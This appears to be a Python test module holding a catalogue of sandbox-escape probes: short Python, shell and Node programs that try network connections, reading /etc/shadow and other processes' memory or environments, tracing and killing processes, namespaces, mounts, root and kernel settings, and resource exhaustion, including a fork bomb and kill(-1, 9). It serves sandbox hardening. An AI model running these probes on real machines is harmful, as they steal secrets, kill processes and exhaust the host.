"""Programs that try to get out of a sandbox, or to take more than they may. One that succeeds prints GOT.

Each is a few lines of Python, shell or JavaScript. What it may aim at stands in targets.json beside it.
"""

# ruff: noqa: E501  (programs, as they are run)
from __future__ import annotations

from dataclasses import dataclass

PRELUDE = """\
import ctypes, fcntl, glob, json, os, resource, select, signal, socket, stat, struct, subprocess, sys, threading, time
T = json.load(open("targets.json"))
libc = ctypes.CDLL(None, use_errno=True)
X86 = os.uname().machine == "x86_64"

def got(*what):
    print("GOT", *what, flush=True)

def call(x86, arm, *args):
    return libc.syscall(x86 if X86 else arm, *args)

def attempt(function, *args):
    try:
        return function(*args)
    except (OSError, ValueError, MemoryError, OverflowError):
        return None

def read(path):
    with open(path, "rb") as file:
        return file.read(100_000)

def forks():
    try:
        return os.fork()
    except OSError:
        time.sleep(0.01)
        return -1

"""


@dataclass(frozen=True, kw_only=True)
class Attack:
    """One program, and how long it may go on."""

    name: str
    code: str
    wall: float = 10.0
    gap: str = ""  #: the kind of sandbox that is known not to hold this one

    @property
    def command(self):
        """How it is started inside."""
        language = self.name.partition("-")[0]
        return {"sh": ("/bin/sh", "attack"), "node": ("node", "attack")}.get(language, ("python3", "attack"))

    @property
    def text(self):
        """The whole program."""
        return (PRELUDE if self.command[0] == "python3" else "") + self.code


NETWORK = {
    "tcp to a server of the machine": """
        line = socket.socket(); line.settimeout(2); line.connect(("127.0.0.1", T["port"])); got("connected")""",
    "tcp over IPv6": """
        line = socket.socket(socket.AF_INET6); line.settimeout(2); line.connect(("::1", T["port"])); got("connected")""",
    "udp to a server of the machine": """
        socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(b"x", ("127.0.0.1", T["port"]))""",
    "tcp to the internet": """
        for host in ("192.0.2.1", "1.1.1.1", "169.254.169.254", "10.0.0.1"):
            line = socket.socket(); line.settimeout(0.5); attempt(line.connect, (host, 80)) is None or got(host)
            attempt(line.getpeername) and got(host)""",
    "names of the DNS": """
        got(socket.getaddrinfo("example.com", 80))""",
    "abstract unix socket": """
        line = socket.socket(socket.AF_UNIX); line.connect("\\0" + T["abstract"]); got("connected")""",
    "unix socket by its path": """
        line = socket.socket(socket.AF_UNIX); line.connect(T["socket"]); got("connected")""",
    "raw and packet sockets": """
        for family, kind, number in ((2, 3, 1), (17, 3, 0), (17, 2, 0)):
            attempt(socket.socket, family, kind, number) and got(family)""",
    "sockets of the host and of the kernel": """
        for family in (40, 38, 31, 29, 21, 44):  # vsock, crypto, bluetooth, can, rds, xdp
            for kind in (1, 2, 3, 5):
                attempt(socket.socket, family, kind) and got(family)""",
    "a new interface by netlink": """
        line = socket.socket(16, 3, 0); line.bind((0, 0))
        line.send(struct.pack("IHHIIBBHiII", 32, 16, 0x605, 1, 0, 0, 0, 0, 0, 0, 0))
        error = struct.unpack_from("i", line.recv(4096), 16)[0]
        error == 0 and got("made a link")""",
    "sh-curl and the shell's own sockets": """
        PORT=$(tr -dc '0-9,' < targets.json | cut -d, -f1)
        curl -s -m 2 http://127.0.0.1:$PORT/ && echo GOT
        bash -c "echo x >/dev/tcp/127.0.0.1/$PORT" && echo GOT
        wget -q -T 2 -O - http://127.0.0.1:$PORT/ && echo GOT
        true""",
    "node-tcp": """
        const T = JSON.parse(require("fs").readFileSync("targets.json"))
        require("net").connect(T.port, "127.0.0.1").on("connect", () => console.log("GOT")).on("error", () => 0)""",
}

SECRETS = {
    "environments of all processes": """
        for name in glob.glob("/proc/*/environ") + glob.glob("/proc/*/task/*/environ"):
            T["mark"].encode() in (attempt(read, name) or b"") and got(name)
        T["mark"] in str(dict(os.environ)) and got("own")""",
    "/proc/1/environ": """
        b"=" in (attempt(read, "/proc/1/environ") or b"").replace(b"PATH=", b"").replace(b"PWD=/", b"") and os.getpid() != 1 and (
            set(read("/proc/1/environ").split(b"\\0")) <= {b"", b"PWD=/", b"PATH=/usr/bin"} or got(read("/proc/1/environ")))""",
    "memory of other processes": """
        mine = (str(os.getpid()), "self", "thread-self")
        for name in glob.glob("/proc/*/mem"):
            for line in () if name.split("/")[2] in mine else (attempt(read, name[:-3] + "maps") or b"").splitlines():
                begin, end = (int(part, 16) for part in line.split()[0].split(b"-"))
                with open(name, "rb", 0) as file:
                    found = attempt(lambda: file.seek(begin) and file.read(min(end - begin, 10_000_000))) or b""
                    T["mark"].encode() in found and got(name)
                    # its own first process is no other; that one must not learn to outlive us
        libc.prctl(1, 0, 0, 0, 0) == 0 and got("need not die with its parent")""",
    "a file by its path": """
        got(read(T["secret"]))""",
    "the data folder": """
        got(os.listdir(os.path.dirname(T["secret"])))""",
    "users and passwords": """
        for name in ("/etc/passwd", "/etc/shadow", "/etc/group", "/etc/hostname", "/etc/machine-id", "/etc/hosts"):
            attempt(read, name) and got(name)""",
    "homes": """
        for name in ("/root", "/home", "/var", "/srv", "/opt", "/mnt", "/run", "/boot", "/tmp/.."):
            found = attempt(os.listdir, name)
            found and name != "/tmp/.." and got(name, found)""",
    "everywhere at once": """
        for folder, _, names in os.walk("/", onerror=lambda error: None):
            if not folder.startswith(("/usr", "/proc", "/lib")):
                os.path.basename(T["secret"]) in names and got(folder)""",
    "existence of outside files": """
        os.stat(T["secret"]) and got("it is there")""",
    "symbolic links": """
        os.symlink(T["secret"], "link"); attempt(read, "link") and got("read")
        os.symlink("/proc/1/root" + T["secret"], "deep"); attempt(read, "deep") and got("read")
        os.symlink("/proc/self/cwd/../../../.." + T["secret"], "up"); attempt(read, "up") and got("read")""",
    "hard links": """
        attempt(lambda: os.link(T["secret"], "hard") or read("hard")) and got("read")
        attempt(lambda: os.link("/usr/bin/env", "env") or True) and got("linked the system")""",
    "what is still open": """
        for number in range(3, 2048):
            found = attempt(os.fstat, number)
            if found and not stat.S_ISFIFO(found.st_mode):
                T["mark"].encode() in (attempt(os.read, number, 100_000) or b"") and got(number)
        b"".join(attempt(read, f"/proc/{pid}/fd/{n}") or b"" for pid in (1, 2) for n in range(3, 20)) and got("of another")""",
    "out by dots and roots": """
        read_at = lambda folder, name: os.read(os.open(name, os.O_RDONLY, dir_fd=folder), 100)
        here = os.open(".", os.O_RDONLY)
        for _ in range(40):
            here = attempt(lambda: os.open("..", os.O_PATH, dir_fd=here)) or here
        attempt(lambda: read_at(here, T["secret"][1:])) and got("read")
        for pid in ("self", "1", "2", str(os.getppid())):
            attempt(read, f"/proc/{pid}/root{T['secret']}") and got(pid)
            attempt(read, f"/proc/{pid}/cwd/..{T['secret']}") and got(pid)""",
    "files by handles": """
        handle = ctypes.create_string_buffer(struct.pack("Ii", 128, 0), 136); mount = ctypes.c_int()
        call(303, 264, -100, b"/", handle, ctypes.byref(mount), 0) == 0 and got("a handle")
        call(304, 265, -100, handle, 0) >= 0 and got("a file")""",
    "devices of the machine": """
        for name in ("/dev/mem", "/dev/kmem", "/dev/kmsg", "/dev/sda", "/dev/vda", "/dev/nvme0n1", "/dev/fuse", "/dev/kvm"):
            attempt(os.open, name, os.O_RDONLY) and got(name)""",
    "a device of its own": """
        attempt(lambda: os.mknod("disk", 0o600 | stat.S_IFBLK, os.makedev(253, 0)) or True) and got("made")
        attempt(lambda: os.mknod("zero", 0o600 | stat.S_IFCHR, os.makedev(1, 5)) or True) and got("made")""",
    "switches of the kernel": """
        for name in ("/proc/sys/kernel/hostname", "/proc/sys/kernel/core_pattern", "/proc/sysrq-trigger", "/sys/power/state",
                     "/proc/sys/vm/drop_caches", "/sys/kernel/uevent_helper", "/proc/1/oom_score_adj"):
            fd = attempt(os.open, name, os.O_WRONLY)
            fd and name != "/proc/1/oom_score_adj" and attempt(os.write, fd, b"0") and got(name)""",
    "messages of the kernel": """
        call(103, 116, 3, ctypes.create_string_buffer(4096), 4096) > 0 and got("read")""",
}

PROCESSES = {
    "trace another process": """
        for pid in (T["victim"], T["mailbot"], os.getppid(), 1):
            call(101, 117, 16, pid, 0, 0) == 0 and got(pid)
            call(101, 117, 0x4206, pid, 0, 0) == 0 and got(pid)""",
    "read another's memory by number": """
        local = ctypes.create_string_buffer(64); vector = struct.pack("QQ", ctypes.addressof(local), 64)
        for pid in (T["victim"], T["mailbot"], os.getppid()):
            call(310, 270, pid, vector, 1, struct.pack("QQ", 0x400000, 64), 1, 0) > 0 and got(pid)""",
    "signals to others": """
        for pid in (T["victim"], T["mailbot"], -T["victim"]):
            for number in (0, 9, 15, 19):
                attempt(lambda: os.kill(pid, number) or True) and got(pid)
            call(234, 131, pid, pid, 9) == 0 and got(pid)
            call(129, 138, pid, 9, bytes(128)) == 0 and got(pid)""",
    "signals by descriptors": """
        fd = call(434, 434, T["victim"], 0)
        fd >= 0 and call(424, 424, fd, 9, 0, 0) == 0 and got("killed")
        call(438, 438, fd, 0, 0) >= 0 and got("took a descriptor")""",
    "signals by owning": """
        here, there = socket.socketpair()
        attempt(lambda: fcntl.fcntl(here, fcntl.F_SETOWN, T["victim"]) or True) and got("owned by another")
        attempt(lambda: fcntl.fcntl(here, 10, signal.SIGKILL) or True) and got("by SIGKILL")
        libc.ioctl(here.fileno(), 0x8901, struct.pack("i", T["victim"])) == 0 and got("by ioctl")""",
    "end everybody": """
        os.fork() or os.kill(-1, 9)
        time.sleep(0.1)""",
    "limits and shares of others": """
        for pid in (T["victim"], T["mailbot"]):
            attempt(resource.prlimit, pid, resource.RLIMIT_NOFILE, (3, 3)) and got(pid)
            attempt(lambda: os.setpriority(os.PRIO_PROCESS, pid, 19) or True) and got(pid)
            attempt(lambda: os.sched_setaffinity(pid, {0}) or True) and got(pid)
            attempt(lambda: os.sched_setscheduler(pid, os.SCHED_IDLE, os.sched_param(0)) or True) and got(pid)
            call(251, 30, 1, pid, 3 << 13) == 0 and got(pid)
        attempt(lambda: os.setpriority(os.PRIO_USER, 0, 19) or True) and got("of the user")""",
    "keys of the kernel": """
        call(250, 219, 0, -3, 1) >= 0 and got("a keyring")
        call(248, 217, b"user", b"name", b"secret", 6, -3) >= 0 and got("a key")
        call(249, 218, b"user", b"name", 0, -3) >= 0 and got("a key asked for")""",
    "io_uring": """
        call(425, 425, 4, bytes(120)) >= 0 and got("a ring")""",
    "bpf": """
        call(321, 280, 0, struct.pack("IIII", 1, 4, 4, 1) + bytes(100), 72) >= 0 and got("a map")""",
    "performance counters": """
        call(298, 241, struct.pack("IIQ", 1, 112, 0) + bytes(96), T["victim"], -1, -1, 0) >= 0 and got("a counter")""",
    "page faults": """
        call(323, 282, 0) >= 0 and got("userfaultfd")""",
    "memory without a name": """
        call(319, 279, b"x", 0) >= 0 and got("memfd")
        call(447, 447, 0) >= 0 and got("secret memory")""",
    "namespaces": """
        for flag in (0x10000000, 0x00020000, 0x40000000, 0x20000000, 0x08000000, 0x04000000, 0x02000000):
            libc.unshare(flag) == 0 and got(hex(flag))
            pid = call(56, 220, flag | 17, 0, 0, 0, 0)
            if pid == 0: os._exit(0)
            pid > 0 and got(hex(flag))
        pid = call(435, 435, struct.pack("QQQQQQQQ", 0x10000000, 0, 0, 0, 17, 0, 0, 0), 64)
        if pid == 0: os._exit(0)
        pid > 0 and got("clone3")
        for name in glob.glob("/proc/1/ns/*"):
            fd = attempt(os.open, name, os.O_RDONLY)
            fd and libc.setns(fd, 0) == 0 and got(name)""",
    "mounts": """
        libc.mount(b"none", b"/box", b"tmpfs", 0, None) == 0 and got("tmpfs")
        libc.mount(b"/usr", b"/usr", None, 32 | 4096, None) == 0 and got("rw")
        libc.umount2(b"/usr", 2) == 0 and got("umount")
        call(428, 428, -100, b"/", 1) >= 0 and got("open_tree")
        call(430, 430, b"proc", 0) >= 0 and got("fsopen")
        attempt(lambda: os.chroot(".") or True) and got("chroot")""",
    "being root": """
        attempt(lambda: os.setuid(0) or True) and got("root")
        attempt(lambda: os.setgroups([0]) or True) and got("groups")
        libc.prctl(38, 0, 0, 0, 0) == 0 and got("privileges again")
        for name in ("/usr/bin/su", "/usr/bin/mount", "/usr/bin/passwd"):
            done = attempt(lambda: subprocess.run([name, "--version"], capture_output=True, timeout=2))
        b"uid=0" in subprocess.run(["id"], capture_output=True).stdout and got("id")
        for line in (attempt(read, "/proc/self/status") or b"").splitlines():
            line.startswith((b"CapEff", b"CapPrm")) and int(line.split()[1], 16) and got(line)""",
    "keys typed into a terminal": """
        for name in ("/dev/tty", "/dev/console", "/dev/pts/0", "/dev/tty1"):
            fd = attempt(os.open, name, os.O_RDWR)
            fd and libc.ioctl(fd, 0x5412, b"x") == 0 and got(name)
        libc.ioctl(0, 0x5412, b"x") == 0 and got("stdin")""",
    "another kind of machine's calls": """
        X86 and libc.syscall(0x40000000 + 41, 2, 1, 0) >= 0 and got("x32")""",
    "the clock and the host's name": """
        libc.sethostname(b"owned", 5) == 0 and got("name")
        call(227, 112, 0, struct.pack("QQ", 0, 0)) == 0 and got("time")
        call(169, 142, 0xfee1dead, 672274793, 0) == 0 and got("off")""",
}

WRITING = {
    "write the system": """
        for name in ("/usr/x", "/usr/bin/x", "/etc/x", "/x", "/src/x", "/lib/x", "/var/x", "/proc/x", "/sys/x", "/dev/x"):
            attempt(open, name, "w") and got(name)
        attempt(lambda: os.rename("/usr/bin/env", "/usr/bin/env2") or True) and got("renamed")
        attempt(lambda: os.remove("/usr/bin/env") or True) and got("removed")""",
    "write the data folder": """
        folder = os.path.dirname(T["secret"])
        attempt(open, T["secret"], "a") and got("opened")
        attempt(open, folder + "/new", "w") and got("made")
        attempt(lambda: os.mkdir(folder + "/dir") or True) and got("folder")
        attempt(lambda: os.remove(T["secret"]) or True) and got("removed")
        attempt(lambda: os.truncate(T["secret"], 0) or True) and got("emptied")
        attempt(lambda: os.rename(T["secret"], "mine") or True) and got("moved")""",
    "change a file by its name": """
        attempt(os.chmod, T["secret"], 0o777); attempt(os.utime, T["secret"], (0, 0))
        attempt(os.setxattr, T["secret"], "user.x", b"x"); attempt(os.chown, T["secret"], os.getuid(), os.getgid())
        attempt(os.chmod, os.path.dirname(T["secret"]), 0)
        call(452, 452, -100, T["secret"].encode(), 0o777, 0); call(280, 88, -100, T["secret"].encode(), bytes(32), 0)
        call(463, 463, -100, T["secret"].encode(), 0, b"user.y", bytes(16), 16)""",
    "memory that lasts": """
        call(29, 194, 4711, 4096, 0o1666); call(68, 186, 4711, 0o1666); call(64, 190, 4711, 1, 0o1666)
        call(240, 180, b"mailbot-attack", 0o102, 0o666, 0)
        attempt(open, "/dev/shm/mailbot-attack", "w")""",
    "/tmp of the machine": """
        attempt(open, "/tmp/mailbot-attack", "w"); attempt(open, "/var/tmp/mailbot-attack", "w")
        attempt(os.listdir, T["folder"]) and got("listed")""",
}

RESOURCES = {
    "sh-fork bomb": """
        b() { b | b & }; b; sleep 30""",
    "processes that make processes": """
        while True:
            forks()""",
    "threads": """
        for _ in range(5000):
            try: threading.Thread(target=time.sleep, args=(30,)).start()
            except RuntimeError: time.sleep(0.01)""",
    "memory of one": """
        kept = []
        while True:
            attempt(lambda: kept.append(bytearray(os.urandom(1 << 20)) * 8))""",
    "memory of many": """
        for _ in range(8):
            if forks() == 0: break
        kept = [bytearray(b"x" * (1 << 20)) for _ in range(120)]
        time.sleep(30)""",
    "shared memory that is given back": """
        import mmap
        kept = []
        for _ in range(8):
            area = mmap.mmap(-1, 40 << 20)
            for at in range(0, 40 << 20, 4096): area[at] = 1
            kept.append(area)
        time.sleep(30)""",
    "one long file": """
        with open("long", "wb") as file:
            while True: attempt(file.write, bytes(1 << 20)) or time.sleep(0.1)""",
    "many long files": """
        for number in range(100_000):
            attempt(lambda: open(f"f{number}", "wb").write(bytes(1 << 20))) or time.sleep(0.05)""",
    "long files without a name": """
        kept = []
        for number in range(100_000):
            file = attempt(open, f"f{number}", "wb", 0)
            if file: attempt(os.unlink, f"f{number}"); attempt(file.write, bytes(1 << 20)); kept.append(file)
            else: time.sleep(0.05)""",
    "many empty files": """
        for number in range(10_000_000):
            attempt(os.close, attempt(os.open, f"f{number}", os.O_CREAT) or 999)""",
    "many folders in folders": """
        for number in range(100_000):
            attempt(os.mkdir, "d"); attempt(os.chdir, "d")
        time.sleep(30)""",
    "closed folders": """
        for number in range(20):
            os.mkdir(f"d{number}"); open(f"d{number}/f", "w").close(); os.chmod(f"d{number}", 0)""",
    "endless output": """
        while True: os.write(1, b"x" * 65536)""",
    "output of many": """
        for _ in range(6): forks()
        while True: os.write(1, b"\\0\\x1b[2J\\xff" * 999)""",
    "deaf sleeper": """
        for number in range(1, 32):
            attempt(signal.signal, number, signal.SIG_IGN)
        while True: time.sleep(30)""",
    "daemons that keep the output": """
        for _ in range(4):
            if forks() == 0:
                os.setsid()
                if forks() > 0: os._exit(0)
                time.sleep(60); os._exit(0)""",
    "daemons that close everything": """
        for _ in range(4):
            if forks() == 0:
                os.setsid()
                if forks() > 0: os._exit(0)
                os.closerange(0, 256)
                while True: time.sleep(1)""",
    "daemons that run away": """
        if forks() == 0:
            while True:
                if forks() > 0: os._exit(0)
                os.setsid()""",
    "computing by many": """
        for _ in range(5): forks()
        while True: pass""",
    "stopped by itself": """
        os.kill(os.getpid(), signal.SIGSTOP)""",
    "sh-no end of a pipe": """
        mkfifo p; cat p & cat p & exec sleep 30 < /dev/null""",
    "pipes and sockets full of data": """
        kept = []
        while True:
            try: pair = socket.socketpair(); pair[0].setblocking(False); kept.append(pair)
            except OSError: time.sleep(0.05); continue
            try:
                while True: pair[0].send(bytes(65536))
            except OSError: pass""",
    "node-memory and children": """
        const { spawn } = require("child_process"); const kept = []
        for (let i = 0; i < 100; i++) spawn("sleep", ["30"]).on("error", () => 0)
        for (;;) kept.push(Buffer.alloc(1 << 20, 1))""",
}

SHORT = 1.0  #: seconds, for those that go on until they are ended
#: Landlock does not look at who only asks whether a file is there.
GAPS = {"existence of outside files": "Landlock"}


def dedented(code):
    """The lines of a program, without the indentation of this file."""
    lines = code.strip("\n").splitlines()
    cut = min(len(line) - len(line.lstrip()) for line in lines if line.strip())
    return "\n".join(line[cut:] for line in lines) + "\n"


ATTACKS = [
    Attack(name=name, code=dedented(code), wall=SHORT if group is RESOURCES else 10.0, gap=GAPS.get(name, ""))
    for group in (NETWORK, SECRETS, PROCESSES, WRITING, RESOURCES)
    for name, code in group.items()
]
